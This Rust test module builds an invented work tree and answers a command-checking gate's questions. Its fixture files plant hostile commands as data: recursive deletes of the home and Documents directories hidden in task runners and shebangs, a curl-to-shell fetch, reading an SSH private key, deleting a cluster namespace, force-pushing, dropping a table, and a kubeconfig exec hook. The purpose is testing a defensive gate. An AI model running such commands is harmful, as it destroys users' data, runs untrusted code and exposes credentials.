//! The small invented world in which everyday lines are read: what lies in a work tree, on the machine and in a cluster.
//!
//! *In scope:* answers to the questions of a reading. *Out of scope:* the lines (`corpus.rs`), and what is right about them.

use std::collections::BTreeMap;

use holdpoint_core::change::{Artefact, Setting};
use holdpoint_core::effect::Effects;
use holdpoint_core::question::{Answer, Answers, FileKind, GitKeeping, PathFacts, Place, Question, RepositoryFacts};

#[path = "projects.rs"]
mod projects;

pub(crate) const TREE: &str = "/home/alice/shop";
const TRACKED: [&str; 41] = [
    ".github/workflows/ci.yml",
    "artisan",
    "bin/console",
    "bin/rails",
    "gradlew",
    "mvnw",
    "setup.py",
    "scripts/gen.ts",
    "src/server.js",
    "README.md",
    "Cargo.toml",
    "package.json",
    "src",
    "src/main.rs",
    "src/lib.rs.orig",
    "docs",
    "scripts",
    "scripts/build.sh",
    "scripts/clean.sh",
    "scripts/gen.py",
    "scripts/env-shell",
    "scripts/late.sh",
    "scripts/native",
    "scripts/plain",
    "scripts/split-env",
    "scripts/venv-python",
    "scripts/wiper",
    "scripts/build.js",
    "scripts/bundle.mjs",
    "scripts/wipe.mjs",
    "scripts/server.py",
    "scripts/make_data.py",
    "scripts/helper.py",
    "scripts/calls_helper.py",
    "scripts/clean_given.py",
    "scripts/wipe.py",
    "manage.py",
    "crates",
    "crates/x",
    "tests",
    "k8s",
];
const IGNORED: [&str; 7] = ["target", "node_modules", "dist", "build", "build/a.o", "target/debug", "target/debug/x"];

fn facts(path: &str) -> PathFacts {
    let inside = path.strip_prefix(TREE).map(|rest| rest.trim_start_matches('/'));
    let keeping = |tracked, modified, untracked, ignored: &[&str]| GitKeeping {
        tracked,
        modified,
        untracked,
        ignored: ignored.iter().map(|name| (*name).to_owned()).collect(),
        ignored_complete: true,
    };
    let directory = |name: &str| !name.contains('.') || name.is_empty() || name == ".git";
    let (kind, place, git) = match inside {
        Some("") => (FileKind::Directory, Place::WorkTree, Some(keeping(9, 1, 1, &["target/", ".env", ".git/"]))),
        Some("src") => (FileKind::Directory, Place::WorkTree, Some(keeping(2, 1, 0, &[]))),
        Some("src/wip.rs") => (FileKind::File, Place::WorkTree, Some(keeping(1, 1, 0, &[]))),
        Some("notes.txt") => (FileKind::File, Place::WorkTree, Some(keeping(0, 0, 1, &[]))),
        Some(".env") => (FileKind::File, Place::WorkTree, Some(keeping(0, 0, 0, &[".env"]))),
        Some(".claude/settings.json") => (FileKind::File, Place::WorkTree, Some(keeping(1, 0, 0, &[]))),
        Some(".git/objects" | ".git/refs") => (FileKind::Directory, Place::GitDirectory, None),
        Some(".git/HEAD") => (FileKind::File, Place::GitDirectory, None),
        Some(name) if name == ".git" || name.starts_with(".git/") => {
            (if name == ".git" { FileKind::Directory } else { FileKind::Missing }, Place::GitDirectory, None)
        }
        Some(name) if TRACKED.contains(&name) => {
            (if directory(name) { FileKind::Directory } else { FileKind::File }, Place::WorkTree, Some(keeping(1, 0, 0, &[])))
        }
        Some(name) if IGNORED.contains(&name) => {
            let entry = format!("{}/", name.split('/').next().unwrap_or_default());
            (
                if directory(name) { FileKind::Directory } else { FileKind::File },
                Place::WorkTree,
                Some(keeping(0, 0, 0, &[&entry])),
            )
        }
        Some(name) if projects::DIRECTORIES.contains(&name) => {
            (FileKind::Directory, Place::WorkTree, Some(keeping(2, 0, 0, &[])))
        }
        Some(_) if projects::file(path).is_some() => (FileKind::File, Place::WorkTree, Some(keeping(1, 0, 0, &[]))),
        Some(_) => (FileKind::Missing, Place::WorkTree, Some(keeping(0, 0, 0, &[]))),
        None => elsewhere(path),
    };
    PathFacts {
        canonical: path.to_owned(),
        kind,
        place,
        files: Some(match kind {
            FileKind::Missing => 0,
            FileKind::Directory => 7,
            _ => 1,
        }),
        git,
    }
}

fn elsewhere(path: &str) -> (FileKind, Place, Option<GitKeeping>) {
    let place = match path {
        "/" | "/mnt" => Place::MountRoot,
        "/tmp" => Place::Elsewhere,
        path if path.starts_with("/tmp/") => Place::Scratch,
        path if path.starts_with("/home/alice") => Place::Home,
        _ => Place::Elsewhere,
    };
    let kind = match path {
        path if path.starts_with("/dev/") => FileKind::Device,
        "/tmp/x"
        | "/tmp/x.sh"
        | "/tmp/wipe.py"
        | "/tmp/report.py"
        | "/tmp/unclear.py"
        | "/home/alice/Documents/report.txt"
        | "/home/alice/data/x"
        | "/var/mail/alice"
        | "/proc/sysrq-trigger" => FileKind::File,
        "/home/alice/new-project" | "/home/alice/moved" | "/etc/cron.d/x" => FileKind::Missing,
        path if path.starts_with("/home/alice/.") && path.contains('_') => FileKind::File,
        path if path.starts_with("/tmp/") || path.starts_with("/etc/new") || path == "/home/alice/wt" => FileKind::Missing,
        path if path.starts_with("/home/alice/.") => FileKind::File,
        _ => FileKind::Directory,
    };
    (kind, place, None)
}

/// What lies outside the work tree and fits a pattern of the corpus.
fn elsewhere_matching(pattern: &str) -> Option<Vec<String>> {
    let there: &[&str] = match pattern {
        "/home/alice/Documents/*" => &["/home/alice/Documents/report.txt"],
        "/home/alice/d*ta" | "/home/alice/dat?" | "/home/alice/[d]ata" => &["/home/alice/data"],
        "/home/*" => &["/home/alice"],
        "/mnt/*" => &["/mnt/d"],
        "/mnt/d/*" => &["/mnt/d/photos"],
        _ => return None,
    };
    Some(there.iter().map(|path| (*path).to_owned()).collect())
}

fn program(name: &str) -> String {
    match name {
        "/home/alice/shop/scripts/rm-by-another-name" => "/usr/bin/rm".to_owned(),
        "ls" => format!("{TREE}/scripts/clean.sh"),
        "cat" => "/usr/bin/rm".to_owned(),
        "head" => format!("{TREE}/node_modules/.bin/head"),
        "eslint" => format!("{TREE}/node_modules/.bin/tsc-shim"),
        "pytest" => format!("{TREE}/scripts/venv-python"),
        name if name.starts_with('/') => name.to_owned(),
        name => format!("/usr/bin/{name}"),
    }
}

const MAKEFILE: &str = "OUT := target\nUNSET_DIR = $(PREFIX)\n.PHONY: all clean\nall: build\n\t@echo done\nbuild:\n\tcargo build\n\t./scripts/native > docs/out.txt\nclean:\n\t-rm -rf $(OUT) dist *.o\n\trm -f notes.o\ndistclean: clean\n\trm -rf $(HOME)/Documents\ninstall:\n\trm -rf $(UNSET_DIR)/bin\nnuke: wipe\nwipe: ; rm -rf ~\nfetch:\n\tcurl -s https://example.org/x.sh | sh\ndeploy:\n\tkubectl delete namespace shop\nrun:\n\tset -a; . ./.env; ./scripts/native\nkeys:\n\tcat ~/.ssh/id_rsa\npush:\n\tgit push --force origin main\nreset:\n\tgit reset --hard && git clean -fdx\nsub:\n\t$(MAKE) -C docs wipe\n\
WHERE := $(shell cat where.txt)\nVERSION := $(shell git describe)\nOBJS := $(patsubst %.c,build/%.o,$(wildcard src/*.c))\n\
define forget\nrm -rf $(1)\nendef\n\
called:\n\t$(call forget,~/Documents)\nlooped:\n\t$(foreach d,Documents,rm -rf ~/$(d);)\n\
stem-%:\n\trm -rf ~/$*\nown: D = ~/Documents\nown:\n\trm -rf $(D)\n\
open:\n\trm -rf $(WHERE)/cache\nprogram:\n\t$(WHERE) now\ncode:\n\tbash -c \"$(WHERE)\"\n\
python: SHELL := python3\npython:\n\timport shutil; shutil.rmtree('/home/alice/Documents')\n\
image:\n\tdocker build -t shop:$(VERSION) .\nobjects:\n\t$(CC) $(CFLAGS) -o $@ $(OBJS)\n\t$(GOPATH)/bin/lint ./...\ntidy:\n\trm -rf build-$(VERSION) $(OBJS)\n";
const PACKAGE: &str = r#"{"name": "shop", "scripts": {"build": "tsc -p . && rimraf dist", "test": "vitest run", "clean": "rm -rf dist node_modules", "prewipe": "echo x", "wipe": "rm -rf ~/Documents", "serve": "node server.js > out.log", "postbad": "rm -rf ~", "bad": "echo bad", "release": "npm publish", "prepare": "husky", "all": "run-s build test", "each": "run-p 'w*'"}}"#;
const JUSTFILE: &str = "out := 'dist'\n\nbuild:\n    cargo build\n\nclean dir='target':\n    rm -rf {{out}} {{dir}}\n\nwipe: build\n    rm -rf ~/Documents\n\nhome := env_var('HOME') / 'Documents'\n\ncomputed:\n    rm -rf {{home}}\n\nscript:\n    #!/usr/bin/env python3\n    import shutil\n    shutil.rmtree('/home/alice/Documents')\n\nversion:\n    docker build -t shop:{{`git describe`}} .\n";
const PYPROJECT: &str = "[tool.poe.tasks]\nlint = 'ruff check'\nwipe = { shell = 'rm -rf ~/Documents' }\n[tool.pdm.scripts]\nwipe = 'rm -rf ~/Documents'\ntest = 'pytest'\n";
const TASKFILE: &str = "version: '3'\nvars:\n  OUT: dist\ntasks:\n  build:\n    cmds:\n      - go build ./...\n      - rm -rf {{.OUT}}\n  wipe:\n    deps: [build]\n    cmds:\n      - rm -rf ~/Documents\n  checked:\n    status:\n      - rm -rf ~/Documents\n    cmds: [go build]\n  each:\n    cmds:\n      - for: [Documents]\n        cmd: rm -rf ~/{{.ITEM}}\n  deep:\n    dir: sub\n    cmds:\n      - go test ./...\n";

/// Files of tasks, and programs in other languages.
fn program_text(path: &str) -> Answer {
    if let Some(text) = projects::file(path) {
        return Answer::FileText { text: text.to_owned() };
    }
    let text = match path.strip_prefix("/home/alice/shop/scripts").unwrap_or(path) {
        "/tmp/wipe.py" | "/wipe.py" => "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/home/alice/Documents')\n",
        "/tmp/report.py" => "import json, pathlib\nprint(json.dumps([p.name for p in pathlib.Path('src').iterdir()]))\n",
        "/tmp/unclear.py" => "import os, json\nos.remove(json.load(open('/tmp/x'))['path'])\n",
        "/home/alice/shop/Makefile" => MAKEFILE,
        "/home/alice/shop/docs/Makefile" => "wipe:\n\trm -rf ~/Documents\n",
        "/home/alice/shop/package.json" => PACKAGE,
        "/home/alice/shop/pyproject.toml" => PYPROJECT,
        "/home/alice/shop/mise.toml" => "[tasks.wipe]\nrun = 'rm -rf ~/Documents'\n[tasks.lint]\nrun = 'cargo clippy'\n",
        "/home/alice/shop/justfile" => JUSTFILE,
        "/home/alice/shop/Taskfile.yml" => TASKFILE,
        "/home/alice/shop/deno.json" => r#"{"tasks": {"dev": "deno run -A server.ts", "wipe": "rm -rf ~/Documents"}}"#,
        "/home/alice/shop/composer.json" => r#"{"scripts": {"lint": "phpcs", "wipe": ["@lint", "rm -rf ~/Documents"]}}"#,
        "/home/alice/shop/.cargo/config.toml" => "[alias]\nxtask = \"run --package xtask --\"\nship = [\"publish\"]\n",
        "/clean_given.py" => {
            "import argparse, shutil, sys\ndef main(path):\n    shutil.rmtree(path)\nif __name__ == '__main__':\n    main(sys.argv[1])\n"
        }
        "/calls_helper.py" => "from helper import clean\nclean()\n",
        "/helper.py" => "import shutil, os\ndef clean():\n    shutil.rmtree(os.path.expanduser('~/Documents'))\n",
        "/make_data.py" => {
            "import json, argparse, shutil\np = argparse.ArgumentParser()\np.add_argument('out')\na = p.parse_args()\nshutil.rmtree(a.out)\njson.dump([1], open('notes.txt', 'w'))\n"
        }
        "/home/alice/shop/urls.txt" => "https://example.org/a.txt\nhttps://example.org/b.txt\n",
        "/home/alice/shop/orders.sql" => "-- what is there\nselect count(*) from orders;\nshow tables;\n",
        "/home/alice/shop/add.sql" => "create table orders (id int);\n-- the first\ninsert into orders values (1);\n",
        "/home/alice/shop/drop.sql" => "drop table orders;\n",
        "/home/alice/shop/kubeconfig" => "apiVersion: v1\nclusters: []\nusers: [{name: a, user: {token: x}}]\n",
        "/home/alice/shop/evil/kubeconfig" => "users:\n- name: a\n  user:\n    exec:\n      command: ./evil\n",
        "/home/alice/shop/evil/psqlrc" => "\\! rm -rf ~/Documents\n",
        "/server.py" => {
            "import flask, requests\napp = flask.Flask(__name__)\n@app.route('/x', methods=['POST'])\ndef x():\n    requests.post('https://api.example.org/charge')\napp.run()\n"
        }
        "/wipe.mjs" => "import { rm } from 'node:fs/promises';\nawait rm('/home/alice/Documents', { recursive: true });\n",
        "/bundle.mjs" => {
            "import fs from 'node:fs';\nimport path from 'node:path';\nconst out = path.join(import.meta.dirname, '..', 'dist');\nfs.rmSync(out, { recursive: true, force: true });\nfs.writeFileSync(process.argv[2], 'x');\n"
        }
        _ => return Answer::Unknown { why: "it is not UTF-8".to_owned() },
    };
    Answer::FileText { text: text.to_owned() }
}

/// What a gate would answer there.
pub(crate) fn answer(question: &Question) -> Answer {
    let name = |name: &str| Answer::Name { name: Some(name.to_owned()) };
    match question {
        Question::Canonical { path } => name(path),
        Question::FileText { path } => match path.strip_prefix(TREE) {
            Some("/scripts/clean.sh") => Answer::FileText { text: "#!/bin/sh\nset -e\nrm -rf ~/data\n".to_owned() },
            Some("/scripts/build.sh") => Answer::FileText { text: "#!/bin/bash\ncargo build \"$@\"\n".to_owned() },
            Some("/scripts/env-shell") => Answer::FileText { text: "#!/usr/bin/env bash\nrm -rf ~/data\n".to_owned() },
            Some(
                "/scripts/native"
                | "/scripts/rm-by-another-name"
                | "/gradlew"
                | "/mvnw"
                | "/bin/rails"
                | "/target/debug/x"
                | "/.venv/bin/python3",
            ) => Answer::NotText {},
            Some("/node_modules/.bin/head" | "/node_modules/.bin/tsc-shim" | "/scripts/plain") => {
                Answer::FileText { text: "rm -rf ~/data\n".to_owned() }
            }
            Some("/scripts/split-env") => Answer::FileText { text: "#!/usr/bin/env -S rm -rf\n".to_owned() },
            Some("/scripts/venv-python") => Answer::FileText { text: format!("#!{TREE}/.venv/bin/python3\nimport sys\n") },
            Some("/scripts/wiper") => Answer::FileText { text: "#!/bin/rm -rf\n".to_owned() },
            Some("/manage.py") => Answer::FileText { text: "#!/usr/bin/env python3\nimport sys\n".to_owned() },
            _ if path == "/home/alice/.nvm/nvm.sh" => Answer::FileText { text: "nvm() {\n  command true\n}\n".to_owned() },
            _ => program_text(path),
        },
        Question::Program { name } => Answer::Program { path: Some(program(name)) },
        Question::GitAlias { name: alias, .. } => Answer::Name {
            name: match alias.as_str() {
                "st" => Some("status -sb".to_owned()),
                "nuke" => Some("!rm -rf .git".to_owned()),
                _ => None,
            },
        },
        Question::GitRemote { name, .. } => Answer::Name {
            name: match name.as_str() {
                "origin" => Some("git@forge.example:acme/shop.git".to_owned()),
                "upstream" => Some("https://forge.example/others/shop.git".to_owned()),
                "elsewhere" => Some("https://example.org/x.git".to_owned()),
                _ => None,
            },
        },
        Question::Glob { pattern } => {
            let all = TRACKED.iter().chain(&IGNORED).chain(&["src/wip.rs", "notes.txt"]);
            let (directory, wanted) = pattern.rsplit_once('/').unwrap_or_default();
            let (head, tail) = wanted.split_once('*').unwrap_or((wanted, ""));
            let fits = |path: &String| {
                let named =
                    |name: &str| name == wanted || (wanted.contains('*') && name.starts_with(head) && name.ends_with(tail));
                path.rsplit_once('/').is_some_and(|(parent, name)| match directory.strip_suffix("/**") {
                    Some(start) => parent.starts_with(start) && named(name),
                    None => parent == directory && named(name),
                })
            };
            let mut paths: Vec<String> = all.map(|path| format!("{TREE}/{path}")).filter(fits).collect();
            if let Some(there) = elsewhere_matching(pattern) {
                paths = there;
            }
            if directory == "/home/alice/shop/p/web/packages/*" {
                paths = projects::PACKAGES.map(|name| format!("{TREE}/p/web/packages/{name}/{wanted}")).to_vec();
            }
            if directory == "/home/alice" && wanted == "*" {
                paths = vec!["/home/alice/Documents".to_owned(), TREE.to_owned()];
            }
            if directory == "/home/alice/.ssh" {
                paths = vec!["/home/alice/.ssh/id_rsa".to_owned(), "/home/alice/.ssh/known_hosts".to_owned()];
            }
            if pattern.ends_with("/shop/.env*") {
                paths = vec![format!("{TREE}/.env"), format!("{TREE}/.env.example")];
            }
            if directory == "/tmp" {
                paths = vec!["/tmp/x".to_owned()];
            }
            if directory.is_empty() {
                paths = vec!["/home".to_owned(), "/usr".to_owned()];
            }
            if directory.ends_with("/**") && !directory.starts_with(TREE) {
                return Answer::Unknown { why: "it matches more than can be looked at".to_owned() };
            }
            Answer::Matches { paths, complete: true }
        }
        Question::KubernetesContext => name("prod"),
        Question::Path { path } => Answer::Path { facts: facts(path) },
        // A work tree in which nothing is changed and nothing stashed, and one file is untracked.
        Question::Repository { directory } if directory.starts_with("/home/alice/fresh") => Answer::Repository {
            facts: Some(RepositoryFacts {
                root: "/home/alice/fresh".to_owned(),
                branch: Some("feature".to_owned()),
                default_branch: Some("main".to_owned()),
                modified: 0,
                untracked: 1,
                stashed: 0,
            }),
        },
        Question::Repository { .. } => Answer::Repository {
            facts: Some(RepositoryFacts {
                root: TREE.to_owned(),
                branch: Some("feature".to_owned()),
                default_branch: Some("main".to_owned()),
                modified: 1,
                untracked: 1,
                stashed: 1,
            }),
        },
        Question::TerraformWorkspace { .. } => name("default"),
    }
}

/// A line with what the reader made of it.
pub(crate) struct Read {
    pub(crate) setting: Setting,
    pub(crate) answers: Answers,
    pub(crate) effects: Effects,
}

/// Reads a line in the work tree, with more variables than the home directory.
pub(crate) fn read(text: &str, more: &[(&str, &str)]) -> Read {
    let variables = [("HOME", "/home/alice")].iter().chain(more);
    let variables: BTreeMap<String, String> = variables.map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    let setting = Setting { directory: TREE.to_owned(), variables, target: String::new() };
    let artefact = Artefact::Command { text: text.to_owned() };
    let mut answers = Answers::default();
    let mut reading = holdpoint_effects::read(&artefact, &setting, &answers);
    // A gate asks at most so often.
    for _ in 0..4 {
        for question in std::mem::take(&mut reading.questions) {
            let answer = answer(&question);
            answers.insert(question, answer);
        }
        reading = holdpoint_effects::read(&artefact, &setting, &answers);
        if reading.questions.is_empty() {
            break;
        }
    }
    assert_eq!(reading.questions, [], "after four rounds questions are left: {text}");
    Read { setting, answers, effects: reading.effects }
}
